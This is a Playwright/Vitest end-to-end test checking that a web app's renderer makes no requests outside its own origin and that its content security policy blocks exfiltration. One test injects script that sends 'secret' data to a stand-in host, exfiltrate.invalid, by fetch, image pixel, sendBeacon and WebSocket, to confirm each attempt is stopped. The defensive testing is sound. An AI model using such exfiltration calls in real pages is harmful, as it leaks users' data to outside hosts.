/**
 * No network, renderer side: Chromium driven through every page of the app
 * on the sample project (browser mode) makes requests to the server's own origin only, and
 * the CSP stops a page that tries to reach anywhere else. Requests that would leave the
 * origin are aborted by the test before they reach the network, and counted as failures.
 */
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CHROMIUM_PATH, HAS_CHROMIUM, ensureRendererBuilt, launchChromium, startServe, watchPage } from '../e2e/harness';
import type { ServeProcess } from '../e2e/harness';

if (!HAS_CHROMIUM) {
  console.warn(`Skipping the browser network test: no Chromium at ${CHROMIUM_PATH} (apt-get install -y chromium, or set CHROMIUM_PATH).`);
}

/** The origin a URL's request goes to (blob: and data: URLs belong to the page that made them). */
function requestOrigin(url: string): string {
  if (url.startsWith('data:')) return 'data:';
  try {
    return new URL(url).origin;
  } catch {
    return url;
  }
}

describe.skipIf(!HAS_CHROMIUM)('the app in Chromium makes no outbound request', () => {
  let dir: string;
  let serve: ServeProcess;
  let browser: Browser;
  let context: BrowserContext;
  let page: Page;
  let watcher: Awaited<ReturnType<typeof watchPage>>;
  const requests: string[] = [];
  /** Requests to anywhere but the server's origin, aborted before they left. */
  const foreign: string[] = [];
  const sockets: string[] = [];
  /** Requests Chromium stopped itself, with the reason ('csp' for the CSP). */
  const failed = new Map<string, string>();

  beforeAll(async () => {
    ensureRendererBuilt();
    dir = await mkdtemp(join(tmpdir(), 'mi-net-e2e-'));
    serve = await startServe(['--sample', '--port', '0'], { MENTOR_IMPACT_HOME: join(dir, 'home') });
    browser = await launchChromium();
    context = await browser.newContext({ viewport: { width: 1360, height: 900 }, locale: 'en-US', serviceWorkers: 'block' });
    await context.route('**/*', async (route) => {
      const url = route.request().url();
      if (requestOrigin(url) === serve.origin || url.startsWith('data:') || url.startsWith('blob:')) return route.continue();
      foreign.push(url);
      return route.abort('blockedbyclient');
    });
    context.on('request', (r) => requests.push(r.url()));
    context.on('requestfailed', (r) => failed.set(r.url(), r.failure()?.errorText ?? ''));
    page = await context.newPage();
    page.on('websocket', (ws) => sockets.push(ws.url()));
    watcher = await watchPage(page);
  });

  afterAll(async () => {
    await context?.close();
    await browser?.close();
    await serve?.stop();
    if (dir) await rm(dir, { recursive: true, force: true });
  });

  it('visits every page of the sample project using only the server origin', async () => {
    await page.goto(serve.url);
    await page.getByTestId('current-project').waitFor();
    const nav = page.getByRole('navigation', { name: 'Main' }).getByRole('link');
    const labels = (await nav.allTextContents()).map((t) => t.trim()).filter(Boolean);
    expect(labels.length).toBeGreaterThanOrEqual(3);
    for (const label of labels) {
      await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: label, exact: true }).click();
      await page.waitForLoadState('networkidle');
      await page.evaluate(() => window.scrollTo(0, document.body.scrollHeight));
      await page.waitForLoadState('networkidle');
    }
    // The Data page's table viewers (previews of personal data) and an upload through Import.
    await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Data', exact: true }).click();
    const tables = page.locator('[data-table]');
    await tables.first().waitFor();
    for (let i = 0; i < (await tables.count()); i++) {
      await tables.nth(i).click();
      await page.waitForLoadState('networkidle');
    }
    const csv = join(dir, 'reviews.csv');
    await writeFile(csv, 'Employee ID,Review Date,Overall Rating\n000101,2024-01-15,3\n000102,2024-01-15,4\n');
    await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Import', exact: true }).click();
    await page.getByTestId('file-input').setInputFiles(csv);
    await page.getByRole('region', { name: 'Preview of reviews.csv' }).waitFor();
    await page.waitForLoadState('networkidle');

    expect(requests.length).toBeGreaterThan(5);
    const elsewhere = requests.filter((u) => !u.startsWith('data:') && requestOrigin(u) !== serve.origin);
    expect(elsewhere).toEqual([]);
    expect(foreign).toEqual([]);
    expect(sockets).toEqual([]);
  });

  it("serves every page under a CSP whose connect-src is 'self'", async () => {
    const res = await page.request.get(`${serve.origin}/`);
    const csp = res.headers()['content-security-policy'] ?? '';
    expect(csp).toMatch(/(^|;\s*)connect-src 'self'(;|$)/);
    expect(csp).toMatch(/(^|;\s*)default-src 'self'(;|$)/);
  });

  it('blocks a page script that tries to reach another origin (fetch, image, beacon, WebSocket)', async () => {
    const before = requests.length;
    const outcome = await page.evaluate(async () => {
      const target = 'https://exfiltrate.invalid';
      const results: Record<string, string> = {};
      try {
        await fetch(`${target}/x?d=secret`, { method: 'POST', body: 'secret', mode: 'no-cors' });
        results.fetch = 'sent';
      } catch (e) {
        results.fetch = `blocked: ${(e as Error).name}`;
      }
      results.image = await new Promise<string>((resolve) => {
        const img = new Image();
        img.onload = () => resolve('loaded');
        img.onerror = () => resolve('blocked');
        img.src = `${target}/pixel.png?d=secret`;
      });
      try {
        results.beacon = navigator.sendBeacon(`${target}/b`, 'secret') ? 'queued' : 'refused';
      } catch (e) {
        results.beacon = `blocked: ${(e as Error).name}`;
      }
      results.websocket = await new Promise<string>((resolve) => {
        try {
          const ws = new WebSocket('wss://exfiltrate.invalid/ws');
          ws.onopen = () => resolve('opened');
          ws.onerror = () => resolve('blocked: error event');
        } catch (e) {
          resolve(`blocked: ${(e as Error).name}`);
        }
      });
      await new Promise((r) => setTimeout(r, 300));
      return results;
    });
    expect(outcome.fetch).toMatch(/^blocked/);
    expect(outcome.image).toBe('blocked');
    // sendBeacon answers "queued" before the CSP check; what matters is that nothing was sent (below).
    expect(outcome.beacon).toBeDefined();
    expect(outcome.websocket).toMatch(/^blocked/);
    await page.waitForTimeout(300);
    // Chromium reports the attempts, each stopped by the CSP before it reached the network.
    const attempts = requests.slice(before).filter((u) => requestOrigin(u) !== serve.origin);
    expect(attempts.length).toBeGreaterThan(0);
    for (const u of attempts) expect(failed.get(u), u).toMatch(/^(csp|net::ERR_BLOCKED_BY_CSP)$/);
    expect(foreign).toEqual([]);
    const problems = await watcher.collect();
    expect(problems.cspViolations.some((v) => /connect-src/.test(v))).toBe(true);
    expect(problems.cspViolations.some((v) => /img-src/.test(v))).toBe(true);
  });
});
